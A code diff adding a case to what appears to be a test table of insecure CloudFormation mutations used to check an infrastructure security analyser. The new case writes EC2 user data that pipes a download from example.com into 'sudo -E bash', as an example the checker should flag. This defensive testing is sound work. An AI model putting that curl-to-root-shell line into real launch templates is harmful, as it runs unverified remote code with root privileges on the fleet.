@@ -224,6 +224,10 @@ var mutations = []mutation{
 	{id: "database/restorable", what: "the file system has no automatic backups", do: func(s set) {
 		s.props("AWS::EFS::FileSystem", "")["BackupPolicy"] = object{"Status": "DISABLED"}
 	}},
+	{id: "host/first-start", what: "fleet pipes a download into a shell", do: func(s set) {
+		data := dig(s.props("AWS::EC2::LaunchTemplate", "Fleet"), "LaunchTemplateData").(object)
+		data["UserData"] = object{"Fn::Base64": "#!/bin/bash\ncurl -sL https://example.com/setup | sudo -E bash -\n"}
+	}},
 	{id: "vpc/resolved", what: "fleet's group is a parameter", want: perimeter.Unknown, do: func(s set) {
 		stack, r := s.resource("AWS::EC2::LaunchTemplate", "Fleet")
 		params, _ := s[stack]["Parameters"].(object)
